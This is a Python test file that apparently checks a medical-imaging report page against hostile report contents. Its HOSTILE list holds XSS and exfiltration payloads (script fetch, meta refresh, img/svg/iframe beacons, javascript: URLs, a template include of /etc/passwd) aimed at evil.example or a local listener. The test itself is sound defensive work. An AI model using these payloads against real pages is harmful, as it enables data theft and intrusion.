"""A site's own page beside a hostile report: nothing of the report is markup, nothing is asked for,
and no picture or name of a patient leaves."""

from __future__ import annotations

import dataclasses
import http.server
import json
import re
import stat
import threading
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from client.local_model.explain import Panel, explain, page
from client.local_model.folder_files import Files
from client.local_model.model_folder import Networks
from client.local_model.run_figures import MOST_LETTERS, UNREADABLE, RunFigures, plain, read
from common.data.cohort import Cohort
from common.errors import UsageError
from common.learners.image import Image
from tests import browser, pictures
from tests.server.report import made_report

AWAY = "http://127.0.0.1:{port}/"
HOSTILE = (
    "<meta http-equiv=refresh content='0;url={at}?",
    '<meta http-equiv="refresh" content="0;url={at}?',
    "</td></table><img src='{at}i?",
    '"><script>fetch("{at}s")</script>',
    "</style><style>body{{background:url({at}c)}}</style>",
    "<svg onload=location='{at}v'><image href={at}g>",
    "<base href='{at}'><form action={at}f><button autofocus formaction={at}b>",
    "<iframe src={at}x srcdoc='<script>top.location=\"{at}\"</script>'>",
    "<link rel=prefetch href={at}l><object data={at}o><embed src={at}e>",
    "--><!--<textarea><title><plaintext><noscript><template>",
    "&lt;img src={at}n&gt; &#60;b&#62; {{{{ 7*7 }}}} {{% include '/etc/passwd' %}}",
    "javascript:location='{at}j'",
    "\u202e\u2066gpj.nialp\u2069\u200b\u0000\x1b[2J\ud800\ufeff\u2028",
    "\uff1cscript\uff1e\u02bb\u2039img src={at}w\u203a",
)


def poisoned(value: Any, text: str, every: int) -> Any:
    """A report with `text` in each `every`-th place where one stands, and as further keys."""
    turn = iter(range(10**9))

    def replaced(v: Any) -> Any:
        if isinstance(v, dict):
            return {text: text, **{k: replaced(x) for k, x in v.items()}}
        if isinstance(v, list):
            return [replaced(x) for x in v] + [text, None, [text]]
        if isinstance(v, str) and v not in ("all", "1.3") and next(turn) % every == 0:
            return text
        return v

    return replaced(value)


@pytest.fixture(scope="module")
def cohort() -> Cohort:
    return dataclasses.replace(pictures.sites(40, 2)[0], site="Alster")


NETWORKS = Networks({}, Image(), {}, Files(Path(), {}, "ab" * 32, "nobody's"))
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)
PANELS = [
    Panel(name, "class 0", "class 1 0.7", "expert", 0.5, 0.1, PIXEL)
    for name in ("Anna Quandt", "<img src=x onerror=alert(1)>'\"")
]


def shown(tmp_path: Path, cohort: Cohort, report: Any) -> tuple[RunFigures, str]:
    path = tmp_path / "report.json"
    path.write_text(json.dumps(report))
    run = read(path, cohort.site, "ab" * 32)
    return run, page(cohort, NETWORKS, PANELS, run)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(sorted(k for k, _ in attrs))))
        names = ("src", "href", "action", "data", "srcset", "style", "formaction")
        self.addresses += [v or "" for k, v in attrs if k in names]


def elements(text: str) -> Elements:
    parser = Elements()
    parser.feed(text)
    parser.close()
    return parser


def test_the_page_holds_the_figures_of_the_report(tmp_path: Path, cohort: Cohort) -> None:
    report = made_report.make()
    run, text = shown(tmp_path, cohort, report)
    assert (run.study, run.task, len(run.sites)) == ("colorectal_metastasis", "postresection", 4)
    row = next(
        r
        for r in report["results"]
        if r["metric"] == "auc" and r["site"] == "all" and r["arm"] == "federated"
    )
    assert f"{row['value']:.3f} ({row['low']:.3f} to {row['high']:.3f})" in text
    assert {f.site for f in run.figures} == {"all", "Alster"}
    assert "The report is not of the model below" in text
    report["model_files"]["model.state"] = "ab" * 32
    assert "The report is of the model below" in shown(tmp_path, cohort, report)[1]
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text)
    assert policy
    assert "unsafe" not in policy[1]
    assert policy[1].startswith("default-src &#39;none&#39;; img-src data:; style-src &#39;sha256-")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_element_of_a_hostile_report_is_on_the_page(
    hostile: str, tmp_path: Path, cohort: Cohort
) -> None:
    bad = hostile.format(at="http://evil.example/")
    for every in (1, 2, 3):
        run, text = shown(tmp_path, cohort, poisoned(made_report.make(), bad, every))
        _, plainly = shown(tmp_path, cohort, poisoned(made_report.make(), "harmless", every))
        assert run.study in (plain(bad), "colorectal_metastasis")
        # the same elements, with the same attributes, in the same order
        assert elements(text).found == elements(plainly).found
        assert {a[:22] for a in elements(text).addresses} == {"data:image/png;base64,"}
        text.encode()  # half a letter would not be written


@given(st.text(max_size=2 * MOST_LETTERS))
def test_a_text_has_no_letter_that_nobody_sees(text: str) -> None:
    out = plain(text)
    assert len(out) <= MOST_LETTERS + 1
    assert not any(unicodedata.category(c).startswith("C") for c in out)
    assert all(a in (b, UNREADABLE) for a, b in zip(out[:MOST_LETTERS], text, strict=False))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=9), inner),
    max_leaves=12,
)
KEYS = ("study", "task", "results", "final_model", "sites", "alarms", "not_run", "model_files")


@given(st.dictionaries(st.sampled_from(KEYS), JSON))
def test_any_json_is_a_page_or_a_refusal(
    cohort: Cohort, tmp_path_factory: pytest.TempPathFactory, report: dict[str, Any]
) -> None:
    folder = tmp_path_factory.mktemp("r")
    _, text = shown(folder, cohort, {"schema_version": "1.3", **report})
    assert {a[:22] for a in elements(text).addresses} == {"data:image/png;base64,"}


@pytest.mark.parametrize("text", ["", "<html>", "[]", "{}", '{"schema_version": 3}', "[" * 100_000])
def test_a_file_that_is_no_report_is_refused(text: str, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    path.write_text(text)
    for given_path in (path, tmp_path / "none.json"):
        with pytest.raises(UsageError, match=r"give the report\.json of a run") as caught:
            read(given_path, "Alster", "")
        assert caught.value.code == "C01"


def test_the_page_is_its_owners_alone(
    tmp_path: Path, cohort: Cohort, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("client.local_model.explain.panels", lambda *_: PANELS)
    run, _ = shown(tmp_path, cohort, made_report.make())
    path = tmp_path / "mine.html"
    assert explain(cohort, NETWORKS, path, 2, lambda *_: None, run) == 2
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# ---- in a browser --------------------------------------------------------------------------------

why = "Chromium is not installed: apt-get install chromium" if browser.CHROMIUM is None else ""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """An address, and what was asked for there."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield AWAY.format(port=server.server_address[1]), asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.mark.skipif(bool(why), reason=why)
def test_a_browser_asks_nobody_for_anything(tmp_path: Path, cohort: Cohort) -> None:
    with listening() as (at, asked), browser.browser() as tab:
        tab.open(at + "here")
        tab.until("document.readyState === 'complete'")
        assert asked.pop(0) == "/here", "a request would be seen"
        asked.clear()
        for n, hostile in enumerate(HOSTILE):
            report = poisoned(made_report.make(), hostile.format(at=at), 1 + n % 2)
            path = tmp_path / f"{n}.html"
            path.write_text(shown(tmp_path, cohort, report)[1])
            tab.open(path.as_uri())
            tab.until(f"location.pathname.endsWith('/{n}.html') && document.images.length === 2")
            # the template's own style is let in, and both pictures are there
            assert tab.run("getComputedStyle(document.querySelector('.warn')).borderLeftStyle") == (
                "solid"
            )
            assert (
                tab.run(
                    "Promise.all([...document.images].map(i => i.decode().then(() => 1)))"
                    ".then(a => a.length)"
                )
                == 2
            )
            tags = "[...new Set([...document.querySelectorAll('*')].map(e => e.localName))].sort()"
            assert "script" not in (names := tab.run(tags))
            assert not {"iframe", "form", "base", "link", "svg", "object", "embed"} & set(names)
            assert tab.run("document.querySelectorAll('meta[http-equiv]').length") == 1
            assert tab.said == [], hostile
        # longer than any refresh that was asked for
        tab.run("new Promise(r => setTimeout(r, 1500))")
        assert tab.run(f"location.pathname.endsWith('/{len(HOSTILE) - 1}.html')")
        assert asked == []
        local = ("file:", "data:", "about:", at + "here")
        assert [a for a in tab.asked if not a.startswith(local)] == []
